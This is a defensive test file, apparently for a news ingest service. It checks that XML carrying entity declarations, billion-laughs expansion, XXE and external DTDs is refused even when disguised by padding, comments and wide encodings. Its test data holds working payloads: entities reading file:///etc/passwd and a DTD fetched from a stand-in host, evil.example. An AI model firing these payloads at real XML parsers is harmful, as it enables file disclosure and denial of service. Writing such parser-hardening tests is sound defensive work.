"""A hostile XML document is refused, however it is hidden.

Each hostile construct (entity declarations, billion laughs, parameter
entities, XXE; an external DTD with entities beside it) is hidden behind
comments, processing instructions, padding, byte-order marks and wide
encodings, and put through the pipeline every input path uses (pushes, drop
folders, polled sources) with detection and with every format forced: it
always ends in a named ``IngestError``, never a story.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.desk_client import EDITOR, ClientFactory, api_config
from wire.errors import IngestError
from wire.formats import INPUT_CHOICES
from wire.ingest.detect import detect_format
from wire.ingest.pipeline import parse_input
from wire.web.app import create_app

FETCHED = datetime(2026, 12, 1, tzinfo=UTC)

CORES = [
    '<!DOCTYPE rss [<!ENTITY x "boom">]><rss version="2.0"><channel><title>&x;</title>'
    "<item><title>&x;</title><description>d</description></item></channel></rss>",
    '<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>&c;</title></feed>',
    '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd" [<!ENTITY e "x">]><rss version="2.0">'
    "<channel><title>&e;</title></channel></rss>",
    '<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
    '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/"/>',
    '<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf><body>&x;</body></nitf>',
    '<!DOCTYPE foo [<!ENTITY x "y">]><foo>&x;</foo>',
    '<!DOCTYPE r [<!-- ] --><!ENTITY x "]">]><rss version="2.0"><channel/></rss>',
    '<!DOCTYPE html [<!ENTITY x "boom">]><html><body><p>&x;</p></body></html>',
]
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le"]

fillers = st.one_of(
    st.integers(0, 3).map(lambda n: " " * n),
    st.integers(1, 120_000).map(lambda n: f"<!--{'x' * n}-->"),
    st.just("<!-- ]> <!DOCTYPE fake> -->"),
    st.just('<?pi data="]>"?>'),
    st.integers(1, 100_000).map(lambda n: "\n" * n),
)


@st.composite
def hidden(draw: st.DrawFn) -> bytes:
    core = draw(st.sampled_from(CORES))
    encoding = draw(st.sampled_from(ENCODINGS))
    declare = draw(st.booleans())
    before = "".join(draw(st.lists(fillers, max_size=3)))
    name = encoding.replace("-sig", "").replace("-le", "").replace("-be", "").upper()
    declaration = f'<?xml version="1.0" encoding="{name}"?>' if declare else ""
    return (declaration + before + core).encode(encoding)


SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@SETTINGS
@given(data=hidden())
def test_a_hidden_hostile_document_is_refused_on_detection(data: bytes) -> None:
    with pytest.raises(IngestError):
        parse_input(data, name="hostile", fetched_at=FETCHED)


@SETTINGS
@given(data=hidden(), fmt=st.sampled_from(INPUT_CHOICES))
def test_a_hidden_hostile_document_is_refused_whatever_format_is_forced(
    data: bytes, fmt: str
) -> None:
    with pytest.raises(IngestError):
        parse_input(data, name="hostile", fetched_at=FETCHED, fmt=fmt)


@pytest.mark.parametrize("core", CORES)
def test_detection_never_calls_a_hostile_document_text(core: str) -> None:
    for encoding in ENCODINGS:
        padded = ("<!--" + "x" * 70_000 + "-->" + core).encode(encoding)
        assert detect_format(padded) != "text", encoding


@pytest.mark.parametrize("media", ["text/plain", "text/html", "application/xml"])
async def test_a_pushed_hostile_document_is_a_422_and_nothing_is_stored(
    aiohttp_client: ClientFactory, tmp_path: Path, media: str
) -> None:
    app = create_app(api_config(tmp_path), start_jobs=False)
    client = await aiohttp_client(app)
    data = ("<!--" + "x" * 30_000 + "-->" + CORES[0]).encode("utf-16")  # under the 64 KiB cap
    resp = await client.post(
        "/api/v1/stories", data=data, headers={**EDITOR, "Content-Type": media}
    )
    assert resp.status == 422, await resp.text()
    feed = await (await client.get("/feeds/all.json")).json()
    assert feed["items"] == []


def test_an_unknown_xml_vocabulary_is_refused_by_name() -> None:
    with pytest.raises(IngestError, match="root <Ritzau"):
        parse_input(
            b'<?xml version="1.0"?><RitzauMessage><id>1</id></RitzauMessage>',
            name="x",
            fetched_at=FETCHED,
        )
